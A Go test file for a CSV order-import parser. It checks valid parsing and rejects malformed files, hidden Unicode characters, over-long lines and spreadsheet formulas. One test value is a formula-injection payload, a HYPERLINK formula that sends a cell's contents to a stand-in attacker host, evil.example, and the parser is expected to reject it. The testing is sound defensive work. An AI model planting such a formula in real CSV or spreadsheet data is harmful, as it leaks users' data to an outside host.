package order_test

import (
	"io"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/tidemark/tidemark/order"
)

func TestReadCSV(t *testing.T) {
	t.Parallel()
	reqs, lines, err := order.ReadCSV(strings.NewReader("\ufeffusername, total_price ,applied_year_month\n" +
		"tester,10000,2025-02\n\n \"kim, jr\", 500 , 2025-03\n"))
	require.NoError(t, err)
	require.Equal(t, []order.Request{
		{Username: "tester", TotalPrice: 10000, AppliedYearMonth: "2025-02"},
		{Username: "kim, jr", TotalPrice: 500, AppliedYearMonth: "2025-03"},
	}, reqs)
	require.Equal(t, []int{2, 4}, lines)
}

// badOrderFiles is every kind of bad file, with the text its error must hold.
var badOrderFiles = []struct {
	name, content, want string
}{
	{"empty", "", "empty file"},
	{"header only", "username,total_price,applied_year_month\n", "no requests after the header"},
	{"wrong header", "user,price,month\na,1,2025-02\n", "line 1: header must be username,total_price,applied_year_month"},
	{"missing column", "username,total_price,applied_year_month\na,1,2025-02\nb,2\n", "line 3: want 3 fields"},
	{"extra column", "username,total_price,applied_year_month\na,1,2025-02,x\n", "line 2: want 3 fields"},
	{"zero price", "username,total_price,applied_year_month\na,1,2025-02\nb,0,2025-02\n", "line 3: total_price: must be a positive integer"},
	{"negative price", "username,total_price,applied_year_month\nb,-5,2025-02\n", "line 2: total_price: starts with '-' (a spreadsheet formula)"},
	{"plus price", "username,total_price,applied_year_month\nb,+5,2025-02\n", "line 2: total_price: starts with '+' (a spreadsheet formula)"},
	{"decimal price", "username,total_price,applied_year_month\nb,10.5,2025-02\n", `line 2: total_price: want a positive integer, got "10.5"`},
	{"price overflow", "username,total_price,applied_year_month\nb,99999999999999999999,2025-02\n", "line 2: total_price"},
	{"empty username", "username,total_price,applied_year_month\n,100,2025-02\n", "line 2: username: must not be empty"},
	{"long username", "username,total_price,applied_year_month\n" + strings.Repeat("x", 101) + ",100,2025-02\n", "line 2: username: longer than 100"},
	{"bad month", "username,total_price,applied_year_month\na,100,2025-13\n", "line 2: applied_year_month: want YYYY-MM"},
	{"short month", "username,total_price,applied_year_month\na,100,25-02\n", "line 2: applied_year_month"},
	{"duplicate in file", "username,total_price,applied_year_month\na,100,2025-02\nb,1,2025-02\na,7,2025-02\n", `line 4: user "a" already has a request for 2025-02 on line 2`},
	{"bad quoting", "username,total_price,applied_year_month\n\"a,100,2025-02\n", "malformed CSV"},
	{"right-to-left override", "username,total_price,applied_year_month\nkim,1,2025-02\nab\u202ecod,100,2025-02\n",
		"line 3: username: contains a right-to-left override U+202E at character 3"},
	{"invalid UTF-8", "username,total_price,applied_year_month\nkim\xff,100,2025-02\n", "line 2: username: contains an invalid UTF-8 byte 0xFF at character 4"},
	{"replacement character", "username,total_price,applied_year_month\nkim\ufffd,100,2025-02\n", "line 2: username: contains a replacement character U+FFFD at character 4"},
	{"zero width space", "username,total_price,applied_year_month\nki\u200bm,100,2025-02\n", "line 2: username: contains a zero width space U+200B at character 3"},
	{"tab in username", "username,total_price,applied_year_month\nki\tm,100,2025-02\n", "line 2: username: contains a tab U+0009 at character 3"},
	{"NUL in month", "username,total_price,applied_year_month\nkim,100,2025-02\x00\n", "line 2: applied_year_month: contains a NUL U+0000 at character 8"},
	{"newline in quotes", "username,total_price,applied_year_month\n\"kim\njr\",100,2025-02\n", "line 2: username: contains a line feed U+000A at character 4"},
	{"formula username", "username,total_price,applied_year_month\n\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",100,2025-02\n",
		"line 2: username: starts with '=' (a spreadsheet formula)"},
	{"formula month", "username,total_price,applied_year_month\nkim,100,@SUM(A1)\n", "line 2: applied_year_month: starts with '@' (a spreadsheet formula)"},
	{"long line", "username,total_price,applied_year_month\n" + strings.Repeat("x", order.MaxCSVLineBytes) + ",1,2025-02\n", "line 2: longer than 4096 bytes"},
	{"long line after blank lines", "username,total_price,applied_year_month\r\n\r\na,1,2025-02\r\n" + strings.Repeat(" ", 5000), "line 4: longer than 4096 bytes"},
	{"long quoted field", "username,total_price,applied_year_month\n\"" + strings.Repeat("a\n", 3000) + "\",1,2025-02\n", "line 2: longer than 4096 bytes"},
	{"long header", strings.Repeat("u", 5000) + "\n", "line 1: longer than 4096 bytes"},
}

func TestReadCSV_BadFiles(t *testing.T) {
	t.Parallel()
	for _, c := range badOrderFiles {
		_, _, err := order.ReadCSV(strings.NewReader(c.content))
		require.ErrorContains(t, err, c.want, c.name)
	}
}

// Korean and emoji usernames are text like any other, and the longest valid
// username (100 four-byte characters, quoted) fits in a line.
func TestReadCSV_KoreanAndEmoji(t *testing.T) {
	t.Parallel()
	longest := strings.Repeat("\U0001F600", order.MaxUsernameLen)
	reqs, _, err := order.ReadCSV(strings.NewReader("username,total_price,applied_year_month\n" +
		"김철수,10000,2025-02\n홍길동 2세,500,2025-02\n이영희\U0001F600,700,2025-02\n\U0001F469\u200d\U0001F4BB,1,2025-02\n" +
		`"` + longest + `",` + strings.Repeat("9", 18) + ",2025-02\n"))
	require.NoError(t, err)
	require.Equal(t, []string{"김철수", "홍길동 2세", "이영희\U0001F600", "\U0001F469\u200d\U0001F4BB", longest},
		[]string{reqs[0].Username, reqs[1].Username, reqs[2].Username, reqs[3].Username, reqs[4].Username})
}

// endless is a file of one line that never ends, counting what is read of it.
type endless struct{ read int64 }

func (e *endless) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = 'x'
	}
	e.read += int64(len(p))
	return len(p), nil
}

// A file whose second line has no end is refused naming the line after
// reading a few KiB of it, not the whole line.
func TestReadCSV_LineWithNoEnd(t *testing.T) {
	t.Parallel()
	body := &endless{}
	_, _, err := order.ReadCSV(io.MultiReader(strings.NewReader("username,total_price,applied_year_month\n"), body))
	require.EqualError(t, err, "line 2: longer than 4096 bytes")
	require.Less(t, body.read, int64(64<<10), "read of the endless line")
}
